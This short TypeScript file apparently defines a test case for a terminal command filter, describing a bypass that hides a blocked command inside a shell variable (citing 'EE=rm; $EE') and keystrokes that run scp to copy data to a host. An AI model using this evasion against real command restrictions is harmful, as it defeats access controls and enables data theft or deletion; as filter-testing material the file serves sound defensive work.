import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by a variable',
  source: 'tp4a/teleport#86: EE=rm; $EE',
  keys: ['x=scp\r', '$x DATA host:\r'],
};
